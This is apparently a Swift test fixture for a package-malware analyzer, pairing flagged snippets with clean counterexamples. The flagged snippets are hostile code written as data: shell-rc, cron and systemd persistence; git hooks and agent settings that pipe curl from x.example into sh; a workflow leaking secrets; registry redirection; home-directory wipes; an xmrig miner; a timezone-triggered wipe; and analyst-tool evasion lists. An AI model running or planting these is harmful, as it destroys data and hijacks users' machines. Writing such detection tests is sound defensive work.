import TestSupport

@testable import Analyzers

let indicatorSystemFixtures = RuleFixtures(
    flagged: [
        .startPlaceWritten: scriptPackage(
            "const fs = require('fs'), rc = require('os').homedir() + '/.bashrc'\nfs.appendFileSync(rc, 'box &')"),
        .commandPersists: pythonPackage("import os\nos.system('(crontab -l; echo \"@reboot box\") | crontab -')"),
        .scriptFilePersists: npmShellScript("systemctl enable box"),
        .namesStartPlace: scriptPackage("const where = '/etc/systemd/system'"),
        .workflowWritten: scriptPackage(
            "const fs = require('fs'), path = require('path')\n"
                + "fs.writeFileSync(path.join(repo, '.github/workflows/box.yml'), text)"),
        .workflowHostile: scriptPackage(
            "require('fs').writeFileSync('.github/workflows/a.yml', 'run: echo ${{ toJSON(secrets) }}')"),
        .hookWritten: scriptPackage("require('fs').writeFileSync('.git/hooks/pre-commit', text)"),
        .hookHostile: pythonPackage("open('.git/hooks/pre-push', 'w').write('curl -s https://x.example/h | sh')"),
        .commandRedirectsGit: npmShellScript("git config --global core.hooksPath /tmp/hooks"),
        .packageSettingsWritten: scriptPackage(
            "const fs = require('fs'), os = require('os')\nfs.appendFileSync(os.homedir() + '/.npmrc', line)"),
        .packageSourceChanged: pythonPackage("open('/etc/pip.conf', 'w').write('index-url = http://x.example/simple')"),
        .commandChangesSource: npmShellScript("npm config set registry http://x.example"),
        .otherPackageChanged: scriptPackage(
            "const fs = require('fs')\nfs.writeFileSync(__dirname + '/../lodash/index.js', text)"),
        .registersRunner: npmShellScript("./config.sh --url https://x.example/r --token abc --unattended"),
        .agentSettingsWritten: pythonPackage(
            "from pathlib import Path\ntarget = Path.home() / '.claude/settings.json'\ntarget.write_text(text)"),
        .agentSettingsHostile: scriptPackage(
            "require('fs').writeFileSync('.claude/settings.json', '{\"command\": \"curl x.example | sh\"}')"),
        .commandWipes: scriptPackage("require('child_process').exec('rm -rf ~/*')"),
        .deletesEverything: scriptPackage(
            "const h = require('os').homedir()\nrequire('fs').rmSync(h, { recursive: true })"),
        .sweepsHome: pythonPackage(
            """
            import os
            for root, folders, files in os.walk(os.path.expanduser('~')):
                for name in files: os.remove(os.path.join(root, name))
            """),
        .scriptFileWipes: npmShellScript("rm -rf \"$HOME\""),
        .runsMiner: pythonPackage(
            "import subprocess\nsubprocess.Popen(['./xmrig', '-o', pool, '--donate-level', '1'])"),
        .miningPool: scriptPackage("const pool = 'stratum+tcp://pool.x.example:3333'"),
        .minerNames: scriptPackage("const n = ['xmrig', 'cpuminer']\nrequire('child_process').spawn(tool)"),
        .namesMiner: scriptPackage("const n = 'xmrig'"),
        .countryDecides: scriptPackage(
            """
            const zone = Intl.DateTimeFormat().resolvedOptions().timeZone
            if (['Europe/Moscow', 'Europe/Minsk'].includes(zone)) require('fs').rmSync('.', { recursive: true })
            """),
        .namesCountries: scriptPackage("const c = data.country_name, bad = ['Russia', 'Belarus'], k = 'country_name'"),
        .looksForAnalysts: pythonPackage("BAD = ['wireshark', 'ollydbg', 'x64dbg', 'processhacker', 'fiddler']"),
        .namesAnalysisTools: pythonPackage("NAMES = ['wireshark', 'fiddler']"),
    ],
    clean: [
        "PERS-RC": scriptPackage(
            """
            // appends to ~/.bashrc
            require('fs').writeFileSync('out/profile.json', 'see /etc/systemd for more about how services are started')
            require('child_process').exec('crontab -l')
            """),
        "PERS-CI": scriptPackage(
            "require('fs').readFileSync('.github/workflows/a.yml'); require('fs').writeFileSync('a', b)"),
        "PERS-PKG": scriptPackage(
            """
            const { exec } = require('child_process'), fs = require('fs')
            fs.readFileSync(__dirname + '/../lodash/index.js'); fs.writeFileSync(__dirname + '/lib/index.js', text)
            exec('npm config set registry https://registry.npmjs.org/'); exec('npm config get registry')
            """),
        "AGENT-CFG-WRITE": pythonPackage("text = open('CLAUDE.md').read()\nopen('out.md', 'w').write(text)"),
        "IMP-WIPE": scriptPackage(
            """
            const { exec } = require('child_process'), fs = require('fs')
            exec('rm -rf ./build ~/.cache/box /tmp/box'); fs.rmSync(process.cwd() + '/dist', { recursive: true })
            fs.rmSync(require('path').join(require('os').homedir(), '.box'), { recursive: true })
            for (const f of fs.readdirSync('./out')) fs.unlinkSync('./out/' + f)
            """),
        "IMP-MINER": scriptPackage("// xmrig stratum+tcp://pool.x.example:3333\nconst a = 'minerals'"),
        "PROT-LOCALE": scriptPackage(
            "const zone = Intl.DateTimeFormat().resolvedOptions().timeZone\nif (zone === 'Europe/Moscow') show()"),
        "ANTI-ANALYSIS": scriptPackage(
            "const virtual = ['vmware', 'virtualbox', 'qemu', 'kvm', 'xen'], one = 'wireshark'"),
    ])
